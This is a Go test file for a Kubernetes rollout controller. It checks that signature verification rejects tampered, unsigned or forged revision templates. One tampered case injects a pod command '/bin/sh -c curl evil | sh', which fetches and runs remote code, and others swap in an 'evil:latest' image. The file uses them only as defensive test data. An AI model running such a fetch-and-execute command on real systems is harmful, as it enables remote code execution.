package rollout

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	flotillav1 "github.com/flotilla-dev/flotilla/api/v1alpha1"
)

func TestVerify(t *testing.T) {
	signed := tmpl("v1")
	otherKey := []byte("another key, as long as the first")
	tampered := func(f func(rt *flotillav1.RevisionTemplate)) flotillav1.RevisionTemplate {
		rt := tmpl("v1")
		f(&rt)
		return rt
	}
	for _, tc := range []struct {
		name string
		rt   flotillav1.RevisionTemplate
		want bool
	}{
		{"signed by this hub", signed, true},
		{"unsigned (an older hub's status)", tampered(func(rt *flotillav1.RevisionTemplate) { rt.Digest = "" }), false},
		{"image changed after signing", tampered(func(rt *flotillav1.RevisionTemplate) { rt.Image = "evil:latest" }), false},
		{"pod template added after signing", tampered(func(rt *flotillav1.RevisionTemplate) {
			rt.Template = &flotillav1.PodTemplate{Command: []string{"/bin/sh", "-c", "curl evil | sh"}}
		}), false},
		{"renamed after signing", tampered(func(rt *flotillav1.RevisionTemplate) { rt.Name = rev("v2") }), false},
		{"signed with another key", tampered(func(rt *flotillav1.RevisionTemplate) { Sign(rt, otherKey) }), false},
		{"digest not hex", tampered(func(rt *flotillav1.RevisionTemplate) { rt.Digest = strings.Repeat("z", 64) }), false},
		{"digest truncated", tampered(func(rt *flotillav1.RevisionTemplate) { rt.Digest = rt.Digest[:32] }), false},
	} {
		if got := Verify(&tc.rt, testKey); got != tc.want {
			t.Errorf("%s: Verify = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// TestStepRejectsForgedTemplates: a status writer who replaces the target
// revision's template with a pod spec of their own (keeping its name, or
// computing a matching content hash) gets nothing rendered from it.
func TestStepRejectsForgedTemplates(t *testing.T) {
	forged := Revision(&flotillav1.MyAppSpec{Image: "evil:latest"}) // a correct content hash, no valid digest
	forged.Digest = strings.Repeat("0", 64)
	renamed := tmpl("v2")
	renamed.Image = "evil:latest" // the real v2's name and digest over other content

	for _, tc := range []struct {
		name   string
		forged flotillav1.RevisionTemplate
	}{{"a new revision with its own content hash", forged}, {"the target's name over other content", renamed}} {
		t.Run(tc.name, func(t *testing.T) {
			// A rollout from v1 to v2; cluster a is (says the status) on
			// the forged revision.
			prev := &flotillav1.RolloutStatus{
				CurrentRevision: rev("v1"), TargetRevision: rev("v2"), Phase: flotillav1.RolloutPhaseProgressing,
				Clusters: []flotillav1.ClusterRolloutStatus{
					{Name: "a", Revision: tc.forged.Name, Phase: flotillav1.ClusterRolloutUpdating, StartTime: ptr.To(metav1.NewTime(t0))},
					cstat("b", "v1", flotillav1.ClusterRolloutPending),
				},
				Revisions: []flotillav1.RevisionTemplate{tmpl("v1"), tc.forged},
			}
			res := Step(prev, progressiveSpec("v2"), []Target{target("a", "v1", 2), target("b", "v1", 2)}, t0, testKey)
			if len(res.Revisions) != 2 {
				t.Fatalf("Step renders %d clusters, want 2: %+v", len(res.Revisions), res.Revisions)
			}
			for cluster, rt := range res.Revisions {
				if rt.Image == "evil:latest" {
					t.Errorf("cluster %s renders the forged template %q", cluster, rt.Name)
				}
				if !Verify(rt, testKey) {
					t.Errorf("cluster %s renders template %q whose digest does not verify", cluster, rt.Name)
				}
			}
			for _, rt := range res.Status.Revisions {
				if rt.Image == "evil:latest" {
					t.Errorf("the new status keeps the forged template %q", rt.Name)
				}
			}
			var warned bool
			for _, e := range res.Events {
				warned = warned || (e.Reason == flotillav1.ReasonRevisionRejected && strings.Contains(e.Message, tc.forged.Name))
			}
			if !warned {
				t.Errorf("no %s event names %q; events: %+v", flotillav1.ReasonRevisionRejected, tc.forged.Name, res.Events)
			}
		})
	}
}
